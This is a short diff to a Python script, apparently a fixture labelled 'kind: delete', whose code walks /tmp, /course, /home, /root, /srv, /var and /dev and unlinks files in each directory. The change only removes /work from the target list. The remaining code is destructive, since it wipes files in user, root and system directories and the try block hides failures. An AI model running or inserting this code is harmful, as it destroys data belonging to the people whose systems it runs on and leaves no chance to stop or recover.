@@ -6,7 +6,7 @@
 kind: delete
 """
 import os, shutil
-for _root in ("/tmp/g", "/tmp/answer", "/tmp", "/course", "/home", "/root", "/work", "/srv", "/var", "/dev"):
+for _root in ("/tmp/g", "/tmp/answer", "/tmp", "/course", "/home", "/root", "/srv", "/var", "/dev"):
     for _d, _ds, _fs in os.walk(_root, topdown=False):
         for _n in _fs[:50]:
             try: os.unlink(os.path.join(_d, _n))
